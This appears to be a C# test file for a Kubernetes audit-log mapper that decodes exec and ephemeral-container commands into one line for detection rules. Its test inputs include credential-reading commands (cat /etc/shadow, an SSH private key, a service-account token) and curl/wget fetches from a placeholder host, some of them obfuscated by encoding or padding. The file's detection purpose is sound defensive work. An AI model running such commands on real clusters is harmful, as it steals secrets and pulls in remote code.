using System.Text.Json.Nodes;

namespace ZtStream.Ingest.Tests.Sources.K8sAudit;

/// <summary>
/// <c>k8s.exec_command</c>: the command a request has run in a pod, one line whatever shape carried it — an exec's query
/// decoded as the API server decodes it, an ephemeral container's command and args — so rules read one text.
/// </summary>
public sealed class K8sAuditExecCommandTests
{
    public static TheoryData<string, string> Queries => new()
    {
        // kubectl: each argument its own command=, a space as +, a slash as %2F.
        { "command=sh&command=-c&command=curl+-s+https%3A%2F%2Fdl.example.net%2Fk&container=web", "sh -c curl -s https://dl.example.net/k" },
        // Any byte may be written %XX (upper or lower case), a space %20, a plus %2B.
        { "command=%63%75rl&command=%2ds&command=a%2Bb%20c", "curl -s a+b c" },
        // Every command= counts, in order, wherever it stands among the other parameters; xcommand= is another parameter.
        { "command=env&container=web&xcommand=ignored&command=cat&stdout=true&command=%2Fetc%2Fshadow", "env cat /etc/shadow" },
        // Padding with blanks is one blank.
        { "command=sh&command=-c&command=" + new string('+', 50_000) + "cat+%2Fetc%2Fshadow", "sh -c cat /etc/shadow" },
    };

    [Theory]
    [MemberData(nameof(Queries))]
    public void Map_Exec_DecodesEveryCommandParameterInOrder(string query, string expected)
    {
        var e = Map(Exec("create", "/api/v1/namespaces/shop/pods/web-1/exec?" + query));

        Assert.Equal(expected, ExecCommandOf(e));
    }

    [Fact]
    public void Map_WebsocketExec_ReadsTheSameQuery()
    {
        var e = Map(Exec("get", "/api/v1/namespaces/shop/pods/web-1/exec?command=cat%20%2Froot%2F.ssh%2Fid_rsa&container=web"));

        Assert.Equal("cat /root/.ssh/id_rsa", ExecCommandOf(e));
    }

    [Fact]
    public void Map_AksDiagnosticRecord_ReadsTheCommandOfTheEventInItsLogString()
    {
        var native = Exec("create", "/api/v1/namespaces/shop/pods/web-1/exec?command=cat&command=%2Fetc%2Fshadow").ToJsonString();
        var record = new JsonObject { ["records"] = new JsonArray(new JsonObject { ["category"] = "kube-audit", ["properties"] = new JsonObject { ["log"] = native } }) };

        var e = Map(record);

        Assert.Equal("cat /etc/shadow", ExecCommandOf(e));
    }

    [Fact]
    public void Map_EphemeralContainerPatch_ReadsEachContainersCommandAndArgs()
    {
        var e = Map(EphemeralContainers(JsonNode.Parse("""{"spec":{"ephemeralContainers":[{"name":"d","image":"busybox","command":["sh","-c"],"args":["cat /var/run/secrets/x/token"]}]}}""")!));

        Assert.Equal("sh -c cat /var/run/secrets/x/token", ExecCommandOf(e));
    }

    [Fact]
    public void Map_EphemeralContainerJsonPatch_ReadsTheValuesItWrites()
    {
        var e = Map(EphemeralContainers(JsonNode.Parse("""[{"op":"test","path":"/metadata/name","value":"web-1"},{"op":"add","path":"/spec/ephemeralContainers/-","value":{"name":"d","command":["wget","https://dl.example.net/a"]}}]""")!));

        Assert.Equal("wget https://dl.example.net/a", ExecCommandOf(e));
    }

    [Theory]
    [InlineData("attach", "/api/v1/namespaces/shop/pods/web-1/attach?container=web&stdin=true")]
    [InlineData("exec", "/api/v1/namespaces/shop/pods/web-1/exec?container=web")]
    [InlineData("log", "/api/v1/namespaces/shop/pods/web-1/log?command=cat")]
    public void Map_NoCommandRun_NoAttribute(string subresource, string uri)
    {
        var record = Exec("create", uri);
        record["objectRef"]!["subresource"] = subresource;

        Assert.Null(ExecCommandOf(Map(record)));
    }

    private static JsonObject Exec(string verb, string uri) => new()
    {
        ["kind"] = "Event",
        ["apiVersion"] = "audit.k8s.io/v1",
        ["level"] = "Metadata",
        ["auditID"] = "5b1a0e00-0000-4000-8000-0000000000e1",
        ["stage"] = "ResponseStarted",
        ["requestURI"] = uri,
        ["verb"] = verb,
        ["user"] = new JsonObject { ["username"] = "mallory@example.com" },
        ["objectRef"] = new JsonObject { ["resource"] = "pods", ["namespace"] = "shop", ["name"] = "web-1", ["apiVersion"] = "v1", ["subresource"] = "exec" },
        ["responseStatus"] = new JsonObject { ["code"] = 101 },
        ["stageTimestamp"] = "2026-03-20T11:00:00Z",
    };

    private static JsonObject EphemeralContainers(JsonNode body)
    {
        var record = Exec("patch", "/api/v1/namespaces/shop/pods/web-1/ephemeralcontainers");
        record["level"] = "Request";
        record["stage"] = "ResponseComplete";
        record["objectRef"]!["subresource"] = "ephemeralcontainers";
        record["responseStatus"] = new JsonObject { ["code"] = 200 };
        record["requestObject"] = body;
        return record;
    }

    private static AccessEvent Map(JsonObject record) => MapperAssert.MapsOne(K8sAuditMapper.Map(Encoding.UTF8.GetBytes(record.ToJsonString())));

    private static string? ExecCommandOf(AccessEvent e) =>
        e.Attributes is { } attributes && attributes.TryGetValue("k8s.exec_command", out var value) ? value.GetString() : null;
}
